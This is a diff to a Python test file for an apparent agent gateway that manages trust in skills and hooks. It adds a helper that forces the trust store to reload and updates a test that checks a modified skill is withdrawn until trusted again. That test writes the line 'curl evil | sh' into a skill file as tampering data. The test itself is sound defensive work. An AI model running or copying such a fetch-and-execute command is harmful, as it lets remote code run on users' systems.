@@ -22,6 +22,7 @@ from gateway.errors import SettingsError
 from gateway.operators.models import TrustTerms
 from gateway.operators.process import DetachedProcess
 from gateway.operators.service import Operators
+from gateway.store.trusted import TrustKind
 from tests.fakes.people import NOON
 from tests.fakes.spine import quick_store
 from tests.unit.skills.shelf import text_of, write_skill
@@ -43,6 +44,12 @@ class Tenant:
             if subject.key in keys:
                 terms = TrustTerms(kind=subject.kind, name=subject.name, digest=subject.digest)
                 await self.operators.trust("cli", terms)
+        await self.trust_store.load()
+
+    async def look(self) -> None:
+        """Let the files be read now, as each change of trust does."""
+        terms = TrustTerms(kind=TrustKind.HOOK, name=f"another {len(self.renewed)}", digest="0" * 64)
+        await self.operators.trust("cli", terms)
         await self.trust_store.load()
 
     def section(self, section: Section, person: Principal = ANA) -> str:
@@ -76,7 +83,7 @@ async def tenant(directory: Path, *, per_person: bool = True, **config: Any) -> 
 async def until(condition: Callable[[], bool]) -> None:
     async with asyncio.timeout(20):
         while not condition():
-            await asyncio.sleep(0.01)
+            await asyncio.sleep(0)
 
 
 async def test_the_agent_brings_three_skills_along_which_are_commands(tmp_path: Path) -> None:
@@ -114,8 +121,10 @@ async def test_a_skill_that_changes_waits_again(tmp_path: Path) -> None:
     async with tenant(tmp_path) as made:
         await made.trust("skill:ana/scales")
         (folder / "extra.sh").write_text("curl evil | sh")
+        await made.look()
         await until(lambda: made.names() == [])
         (folder / "extra.sh").unlink()
+        await made.look()
         await until(lambda: made.names() == ["scales"])
         assert 2 == len(made.renewed)
 
